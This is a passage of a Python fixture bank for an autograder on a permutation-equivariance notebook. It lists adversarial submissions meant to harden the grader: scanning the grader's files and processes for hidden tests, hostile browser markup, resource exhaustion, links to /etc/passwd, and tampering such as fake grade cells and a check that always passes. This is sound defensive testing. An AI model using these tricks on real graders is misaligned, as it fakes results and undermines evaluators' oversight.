        NONE, kind="isolation", append={"block_e": REACH_NETWORK}),
    "isolation_grading_notebook": Example(
        "correct, and reads its folder, IPython's history and every process for the marking scheme and hidden tests",
        NONE, kind="isolation", append={"block_e": LOOK_FOR_GRADER_TEXT}),
    "isolation_writes_odd_files": Example(
        "correct, and leaves links out of its folder, a FIFO and a tree 100 folders deep in it",
        NONE, kind="isolation", append={"block_e": WRITE_ODD_FILES}),
    "isolation_grader_package": Example(
        "correct, and looks for the hidden checks and reference solution to print them",
        NONE, kind="isolation", append={"block_e": READ_GRADER_PACKAGE}),
    "isolation_markup": Example(
        "correct, with markup made to run in a grader's or student's browser: scripts, handlers, frames, forms, "
        "remote images, <base> and <meta refresh> in Block D's answer (beside a table, an embedded image and math, "
        "and an unmatched BEGIN MARK SCHEME of its own); HTML and crafted image outputs; HTML and SVG files "
        "submitted and written; file names that are markup", NONE, kind="isolation",
        replace={"block_d": HOSTILE_ANSWER}, append={"block_a": OWN_HIDDEN_TESTS_MARKER, "block_e": HOSTILE_OUTPUTS},
        files=_hostile_files, notes=("text/html", "image/svg+xml")),

    # ------------------------------------------------------------------ 4. bounds
    "bounds_infinite_loop": Example(
        "an infinite loop at the start of Block C: interrupted at the cell's time limit", ALL_C | ALL_E, kind="bounds",
        prepend={"block_c": "while True:\n    pass"}),
    "bounds_loop_after_work": Example(
        "an infinite loop at the end of Block C, after its work: interrupted, nothing lost", NONE, kind="bounds",
        append={"block_c": "while True:\n    pass"}),
    "bounds_ignores_interrupt": Example(
        "a loop that swallows KeyboardInterrupt at the start of Block C: the kernel is stopped, later cells not run",
        ALL_C | ALL_E, kind="bounds", prepend={"block_c": IGNORE_INTERRUPTS}),
    "bounds_huge_allocation": Example(
        "an 8 GiB array at the start of Block C: MemoryError, only Block C and what needs it fail", ALL_C | ALL_E,
        kind="bounds", prepend={"block_c": "buffer = np.ones((1024, 1024, 1024))  # 8 GiB"}),
    "bounds_memory_in_processes": Example(
        "four processes of 330 MB each at the start of Block C: the whole sandbox is over its memory and is stopped",
        ALL_C | ALL_E, kind="bounds", prepend={"block_c": MEMORY_IN_PROCESSES}),
    "bounds_many_processes": Example(
        "hundreds of processes started at the end of Block B, never stopped: capped, and gone after grading",
        NONE, kind="bounds", append={"block_b": FORK_MANY}),
    "bounds_prints_300_mb": Example(
        "300 MB printed at the end of Block C, after its work: output cut and the cell stopped, nothing lost",
        NONE, kind="bounds", append={"block_c": 'for _ in range(300):\n    print("x" * 1_000_000)'}),
    "bounds_prints_forever": Example(
        "prints without end at the start of Block B: the kernel stops the cell at its output cap, before its work",
        ALL_B | ALL_C_BUT_PE | ALL_E, kind="bounds", prepend={"block_b": 'while True:\n    print("x" * 1_000_000)'}),
    "bounds_fills_disk": Example(
        "80 MB of files written at the start of Block C: past the folder's size, writing fails, the kernel goes on",
        ALL_C | ALL_E, kind="bounds", prepend={"block_c": FILL_DISK}),
    "bounds_many_files": Example(
        "a million empty files made at the start of Block C: the sandbox is stopped past its count of entries",
        ALL_C | ALL_E, kind="bounds", prepend={"block_c": MANY_FILES}),

    # ------------------------------------------------------------------ 5. tampering: the work is correct
    "tamper_deleted_tests": Example(
        "every test cell of Blocks B and E deleted: put back, and the work earns its points", NONE, kind="tampering",
        notebook=_without(*ALL_B, *ALL_E)),
    "tamper_duplicated_tests": Example(
        "each test cell of Block A duplicated twice: counted once", NONE, kind="tampering",
        notebook=_duplicate_tests_of_block_a),
    "tamper_repointed_tests": Example(
        "PE added after attention, and Block C's test cells re-pointed at a passing check with 100 points",
        frozenset({"test_block_c_outputs", "test_block_c_max_diff", "test_block_e_results_match"}), kind="tampering",
        edits=(("block_c", "Y_pe = mha.forward(X + pe)", "Y_pe = mha.forward(X) + pe"),
               ("block_c", "Y_perm_pe = mha.forward(X_perm + pe)", "Y_perm_pe = mha.forward(X_perm) + pe")),
        notebook=_repoint_block_c_tests),
    "tamper_fake_grade_cell": Example(
        "an added cell with a fake grade_id worth 50 points: ignored, the rest graded", NONE, kind="tampering",
        notebook=_add_fake_grade_cell),
    "tamper_points": Example(
        "every test cell worth 10 points, Block D worth 0: the released points are put back", NONE, kind="tampering",
        notebook=_inflate_points),
    "tamper_kernelspec": Example("the kernelspec changed to bash", NONE, kind="tampering", notebook=_other_kernel),
    "tamper_saved_outputs": Example(
        "the untouched release saved with a '✔ passed' output in every test cell", ALL, kind="tampering",
        untouched=True, notebook=_saved_passing_outputs),
    "tamper_solution_as_grade_cell": Example(
        "Blocks B and C marked as locked grade cells worth 50 points", NONE, kind="tampering",
        notebook=_solution_cell_as_grade_cell),
    "tamper_malformed_metadata": Example(
        "nbgrader metadata replaced by junk on a text cell and a test cell", NONE, kind="tampering",
        notebook=_malformed_metadata),
    "tamper_test_cell_types": Example(
        "two test cells turned into a markdown and a raw cell", NONE, kind="tampering", notebook=_test_cells_retyped),
    "tamper_setup_cell": Example(
        "the provided set-up cell rewritten to define a run_check that always passes", NONE, kind="tampering",
        test_cell_edits={"setup": "import numpy as np\ndef run_check(*args):\n    print('✔ passed')"}),

    # ------------------------------------------------------------------ 6. bad input
    "bad_not_json": Example("demo.ipynb is plain text, not JSON", ALL, kind="bad input", has_notebook=False,
                            files=_write("print('hello')\n"), notes=("not JSON",)),
    "bad_empty_notebook": Example("demo.ipynb is empty", ALL, kind="bad input", has_notebook=False,
                                  files=_write(b""), notes=("empty",)),
    "bad_binary_notebook": Example("demo.ipynb holds binary bytes", ALL, kind="bad input", has_notebook=False,
                                   files=_write(bytes(range(256)) * 4), notes=("not UTF-8",)),
    "bad_nbformat3": Example("the solution saved in nbformat 3: upgraded and graded", NONE, kind="bad input",
                             has_notebook=False, files=_solution_as("demo.ipynb", version=3)),
    "bad_nbformat5": Example("a notebook claiming nbformat 5, which no reader knows", ALL, kind="bad input",
                             has_notebook=False, files=_future_format, notes=("nbformat cannot read",)),
    "bad_missing_notebook": Example("no notebook, only a README", ALL, kind="bad input", has_notebook=False,
                                    files=_readme_only, notes=("There was no demo.ipynb",)),
    "bad_misnamed_notebook": Example("the solution saved as 'Demo (1).ipynb': graded in its place", NONE,
                                     kind="bad input", has_notebook=False, files=_solution_as("Demo (1).ipynb"),
                                     notes=("graded in its place",)),
    "bad_huge_notebook": Example(
        "the solution saved with 20 MiB of outputs (past the 16 MiB that earn a note, within the suite's 32 MiB "
        "limit of a notebook): cleared and graded", NONE, kind="bad input", has_notebook=False,
        files=_solution_with_outputs(HUGE_NOTEBOOK_MIB), notes=("MiB",)),
    "bad_too_large_notebook": Example("a notebook of 40 MiB (past the suite's 32 MiB limit): refused without being "
                                      "read", ALL, kind="bad input", has_notebook=False,
                                      files=_solution_with_outputs(TOO_LARGE_NOTEBOOK_MIB), notes=("more than",)),
    "bad_odd_files": Example("correct, with binary and Latin-1 files and a file name that is not UTF-8", NONE,
                             kind="bad input", files=_odd_files, notes=("not UTF-8",)),
    "bad_links": Example("correct, with links to the source notebook, /etc/passwd, the gradebook and a dangling one",
                         NONE, kind="bad input", files=_links, notes=("a link to",)),
    "bad_notebook_is_link": Example("demo.ipynb is a link to the instructor's source notebook", ALL, kind="bad input",
                                    has_notebook=False, files=_notebook_is_link, notes=("a link to",)),
    "bad_folder_is_file": Example("the submission folder is a file", ALL, kind="bad input", has_notebook=False,
                                  files=_folder_is_file, notes=("not a folder",)),
    "bad_folder_is_link": Example("the submission folder is a link to another student's", ALL, kind="bad input",
                                  has_notebook=False, files=_folder_is_link, notes=("a link to",)),
    "bad_fifo": Example("correct, with a FIFO among its files", NONE, kind="bad input", files=_fifo,
                        notes=("special file",)),
    "bad_timestamp": Example("correct, with a timestamp.txt nbgrader cannot read", NONE, kind="bad input",
                             files=_bad_timestamp, notes=("timestamp.txt",)),
    # structure and tree limits at intake: past one limit each (scaled, see INTAKE_TEST_LIMITS)
    "bad_tree_deep": Example(
        "correct, with a folder tree 1,500 levels deep: set aside, the rest graded", NONE, kind="bad input",
        has_notebook=False, files=_solution_and(_deep_tree), notes=("more than 16 levels deep", "set aside")),
    "bad_tree_long_path": Example(
        "correct, with a path of 5 kB (past PATH_MAX): set aside, the rest graded", NONE, kind="bad input",
        has_notebook=False, files=_solution_and(_long_path), notes=("paths longer than 1,024 bytes",)),
    "bad_tree_many_files": Example(
        "correct, with 10× the files a submission may hold (the issue's 20,000 tiny files): those past the limit "
        "set aside", NONE, kind="bad input", has_notebook=False, files=_solution_and(_many_files),
        notes=("files and folders past the first 200",)),
    "bad_tree_locked_folder": Example(
        "correct, with a folder of mode 000 holding a file: graded, nothing removed", NONE, kind="bad input",
        has_notebook=False, files=_solution_and(_locked_folder)),
    "bad_many_cells": Example("10× the cells a notebook may have (the issue's 200,000): refused before it is built",
                              ALL, kind="bad input", has_notebook=False, files=_solution_changed(_many_cells),
                              notes=("more than 100 cells",)),
    "bad_deep_json": Example("a saved output nested 100,000 levels deep: refused, with how to clear it", ALL,
                             kind="bad input", has_notebook=False, files=_solution_changed(_deep_json),
                             notes=("nested more than 64 levels deep in its saved outputs", "Clear Outputs")),
    "bad_many_attachments": Example("3× the images pasted into Block D a notebook may hold: refused", ALL,
                                    kind="bad input", has_notebook=False, files=_solution_changed(_many_attachments),
                                    notes=("more than 10 attachments",)),

    # ------------------------------------------------------------------ 7. honest work in other forms
    "honest_warnings": Example("correct, writing warnings and notes to stderr in every block", NONE, kind="honest",
                               append=_everywhere(WARNINGS_TO_STDERR)),
    "honest_slow": Example("correct, pausing 1 s in every block (a quarter of the tests' time limit)", NONE,
                           kind="honest", append=_everywhere("import time\ntime.sleep(1)")),
    "honest_permutation_matrix": Example(
        "correct, permuting with a permutation matrix", NONE, kind="honest",
        edits=(("block_b", "X_perm = X[[2, 0, 1]]", "P = np.eye(3)[[2, 0, 1]]  # (3, 3) permutation matrix\nX_perm = P @ X"),
               ("block_b", "without_pe_max_diff = float(np.abs(Y_perm - Y[[2, 0, 1]]).max())",
                "without_pe_max_diff = float(np.abs(Y_perm - P @ Y).max())"),
               ("block_c", "with_pe_max_diff = float(np.abs(Y_perm_pe - Y_pe[[2, 0, 1]]).max())",
                "with_pe_max_diff = float(np.abs(Y_perm_pe - P @ Y_pe).max())"))),
    "honest_np_take": Example(
        "correct, permuting with np.take", NONE, kind="honest",
        edits=(("block_b", "X_perm = X[[2, 0, 1]]", "X_perm = np.take(X, [2, 0, 1], axis=0)"),)),
    "honest_loop": Example(
        "correct, with loops instead of fancy indexing", NONE, kind="honest",
        edits=(("block_b", "X_perm = X[[2, 0, 1]]", "X_perm = np.array([X[i] for i in [2, 0, 1]])"),
               ("block_b", "without_pe_max_diff = float(np.abs(Y_perm - Y[[2, 0, 1]]).max())",
                "without_pe_max_diff = 0.0\nfor row, i in enumerate([2, 0, 1]):\n"
                "    for column in range(8):\n"
                "        without_pe_max_diff = max(without_pe_max_diff, float(abs(Y_perm[row, column] - Y[i, column])))"))),
    "honest_helper_module": Example(
        "correct, importing the permutation from its own helper module beside the notebook", NONE, kind="honest",
        files=_helper_module,
        edits=(("block_b", "X_perm = X[[2, 0, 1]]", "from labhelpers import PERMUTATION\nX_perm = X[PERMUTATION]"),)),
}

# The Spanish edition's twins of part of the class: the same work, submitted in the Spanish release.
# Each must score exactly as its English twin, check by check, with its feedback in Spanish.
SPANISH_TWINS = ("solution", "untouched_release", "features_permuted", "pe_after_attention", "hand_typed_manifest",
                 "block_raises")
for _name in SPANISH_TWINS:
    EXAMPLES[f"{_name}_es"] = dataclasses.replace(
        EXAMPLES[_name], language="es", description=f"{EXAMPLES[_name].description} (in the Spanish edition)")

BANK = Bank("16-permutation-equivariance", "demo", EXAMPLES)
